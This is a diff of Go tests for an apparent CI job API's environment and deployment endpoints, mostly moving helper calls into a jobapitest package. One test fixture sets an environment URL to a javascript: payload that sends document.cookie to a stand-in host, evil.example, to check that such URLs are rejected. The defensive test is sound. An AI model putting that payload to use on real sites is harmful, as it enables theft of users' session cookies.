@@ -41,15 +41,15 @@ func TestEnvironmentVariablesReachTheRunner(t *testing.T) {
 	inst := jobapitest.Start(t, jobapitest.Options{})
 	var proj api.Project
 	inst.MustDo(t, http.StatusCreated, "POST", "/api/v4/projects", map[string]any{"name": "app", "default_branch": "main"}, &proj)
-	resp, b := inst.Do(t, "POST", projectPath(proj.ID)+"/pipeline", map[string]any{"ref": "Feature/Login-Page", "ci_config": reviewAppYAML})
+	resp, b := inst.Do(t, "POST", jobapitest.ProjectPath(proj.ID)+"/pipeline", map[string]any{"ref": "Feature/Login-Page", "ci_config": reviewAppYAML})
 	jobapitest.WantStatus(t, resp, b, http.StatusCreated)
-	p := decode[api.Pipeline](t, b)
+	p := jobapitest.Decode[api.Pipeline](t, b)
 
 	r := inst.NewRunner(t)
 	// The first attempt fails and is retried: each attempt is a deployment.
 	first := r.TakeNamed(t, "deploy_review")
 	r.Finish(t, first, runnerclient.StateFailed, "script_failure")
-	inst.MustDo(t, http.StatusCreated, "POST", fmt.Sprintf("%s/jobs/%d/retry", projectPath(proj.ID), first.ID), nil, nil)
+	inst.MustDo(t, http.StatusCreated, "POST", fmt.Sprintf("%s/jobs/%d/retry", jobapitest.ProjectPath(proj.ID), first.ID), nil, nil)
 	deploy := r.TakeNamed(t, "deploy_review")
 	deps := listDeployments(t, inst, proj.ID)
 	if len(deps) != 2 || deps[0].Status != "failed" || deps[0].Deployable.ID != first.ID || deps[0].FinishedAt == nil ||
@@ -82,8 +82,8 @@ func TestEnvironmentVariablesReachTheRunner(t *testing.T) {
 		t.Fatalf("environment after the deploy: %+v, last deployment %+v; want available, the retry's deployment succeeded", env, last)
 	}
 
-	stop := jobByName(t, p, "stop_review")
-	inst.MustDo(t, http.StatusOK, "POST", fmt.Sprintf("%s/jobs/%d/play", projectPath(proj.ID), stop.ID), nil, nil)
+	stop := jobapitest.JobByName(t, p, "stop_review")
+	inst.MustDo(t, http.StatusOK, "POST", fmt.Sprintf("%s/jobs/%d/play", jobapitest.ProjectPath(proj.ID), stop.ID), nil, nil)
 	stopJob := r.TakeNamed(t, "stop_review")
 	wantVariables(t, stopJob, map[string]string{
 		"CI_ENVIRONMENT_NAME":   "review/feature-login-page",
@@ -106,7 +106,7 @@ func TestEnvironmentVariablesReachTheRunner(t *testing.T) {
 	}
 
 	// A new deploy of the same environment makes it available again; pages hold one each.
-	resp, b = inst.Do(t, "POST", projectPath(proj.ID)+"/pipeline", map[string]any{"ref": "Feature/Login-Page", "ci_config": reviewAppYAML})
+	resp, b = inst.Do(t, "POST", jobapitest.ProjectPath(proj.ID)+"/pipeline", map[string]any{"ref": "Feature/Login-Page", "ci_config": reviewAppYAML})
 	jobapitest.WantStatus(t, resp, b, http.StatusCreated)
 	again := r.TakeNamed(t, "deploy_review")
 	r.Finish(t, again, runnerclient.StateSuccess, "")
@@ -116,9 +116,9 @@ func TestEnvironmentVariablesReachTheRunner(t *testing.T) {
 	if n := len(listEnvironments(t, inst, proj.ID)); n != 1 {
 		t.Errorf("%d environments, want the one: a name is unique per project", n)
 	}
-	resp, b = inst.Do(t, "GET", projectPath(proj.ID)+"/deployments?page=2&per_page=2", nil)
+	resp, b = inst.Do(t, "GET", jobapitest.ProjectPath(proj.ID)+"/deployments?page=2&per_page=2", nil)
 	jobapitest.WantStatus(t, resp, b, http.StatusOK)
-	page := decode[[]api.Deployment](t, b)
+	page := jobapitest.Decode[[]api.Deployment](t, b)
 	if len(page) != 1 || page[0].Deployable.ID != again.ID || resp.Header.Get("X-Total") != "3" ||
 		resp.Header.Get("X-Total-Pages") != "2" || resp.Header.Get("X-Page") != "2" || resp.Header.Get("X-Next-Page") != "" {
 		t.Errorf("deployments page 2 of 2: %d items, headers %v", len(page), resp.Header)
@@ -128,28 +128,28 @@ func TestEnvironmentVariablesReachTheRunner(t *testing.T) {
 	if n := len(listEnvironments(t, inst, proj.ID+1)); n != 0 {
 		t.Errorf("another project lists %d environments", n)
 	}
-	resp, b = inst.Do(t, "GET", fmt.Sprintf("%s/environments/%d", projectPath(proj.ID+1), envs[0].ID), nil)
+	resp, b = inst.Do(t, "GET", fmt.Sprintf("%s/environments/%d", jobapitest.ProjectPath(proj.ID+1), envs[0].ID), nil)
 	jobapitest.WantJSONError(t, resp, b, http.StatusNotFound)
 }
 
 func listEnvironments(t *testing.T, inst *jobapitest.Instance, pid int64) []api.Environment {
 	t.Helper()
 	var out []api.Environment
-	inst.MustDo(t, http.StatusOK, "GET", projectPath(pid)+"/environments", nil, &out)
+	inst.MustDo(t, http.StatusOK, "GET", jobapitest.ProjectPath(pid)+"/environments", nil, &out)
 	return out
 }
 
 func getEnvironment(t *testing.T, inst *jobapitest.Instance, pid, id int64) api.Environment {
 	t.Helper()
 	var out api.Environment
-	inst.MustDo(t, http.StatusOK, "GET", fmt.Sprintf("%s/environments/%d", projectPath(pid), id), nil, &out)
+	inst.MustDo(t, http.StatusOK, "GET", fmt.Sprintf("%s/environments/%d", jobapitest.ProjectPath(pid), id), nil, &out)
 	return out
 }
 
 func listDeployments(t *testing.T, inst *jobapitest.Instance, pid int64) []api.Deployment {
 	t.Helper()
 	var out []api.Deployment
-	inst.MustDo(t, http.StatusOK, "GET", projectPath(pid)+"/deployments", nil, &out)
+	inst.MustDo(t, http.StatusOK, "GET", jobapitest.ProjectPath(pid)+"/deployments", nil, &out)
 	return out
 }
 
@@ -165,7 +165,7 @@ func TestEnvironmentBadInput(t *testing.T) {
 		"name expands to nothing": {"deploy:\n  script: x\n  environment: $NOWHERE\n",
 			`jobs:deploy:environment:name expands to "", which is empty (line 3)`},
 	} {
-		resp, b := inst.Do(t, "POST", projectPath(7)+"/pipeline?ref=main", c.yaml, "Content-Type", "application/yaml")
+		resp, b := inst.Do(t, "POST", jobapitest.ProjectPath(7)+"/pipeline?ref=main", c.yaml, "Content-Type", "application/yaml")
 		if msg := jobapitest.WantJSONError(t, resp, b, http.StatusBadRequest); !strings.Contains(msg, c.want) {
 			t.Errorf("%s: message %q, want %q", name, msg, c.want)
 		}
@@ -194,9 +194,9 @@ func TestEnvironmentURLMustBeWeb(t *testing.T) {
 	inst.MustDo(t, http.StatusCreated, "POST", "/api/v4/projects", map[string]any{"name": "app", "default_branch": "main"}, &proj)
 	src := "variables:\n  LINK: 'javascript:fetch(\"//evil.example/\"+document.cookie)'\n" +
 		"deploy:\n  script: ./deploy.sh\n  environment:\n    name: production\n    url: $LINK\n"
-	resp, b := inst.Do(t, "POST", projectPath(proj.ID)+"/pipeline", map[string]any{"ref": "main", "ci_config": src})
+	resp, b := inst.Do(t, "POST", jobapitest.ProjectPath(proj.ID)+"/pipeline", map[string]any{"ref": "main", "ci_config": src})
 	jobapitest.WantStatus(t, resp, b, http.StatusBadRequest)
-	if msg := decode[api.Error](t, b).Message; !strings.Contains(msg, "jobs:deploy:environment:url") || !strings.Contains(msg, "http or https") {
+	if msg := jobapitest.Decode[api.Error](t, b).Message; !strings.Contains(msg, "jobs:deploy:environment:url") || !strings.Contains(msg, "http or https") {
 		t.Fatalf("message %q, want it to name jobs:deploy:environment:url and say http or https", msg)
 	}
 	if envs := listEnvironments(t, inst, proj.ID); len(envs) != 0 {
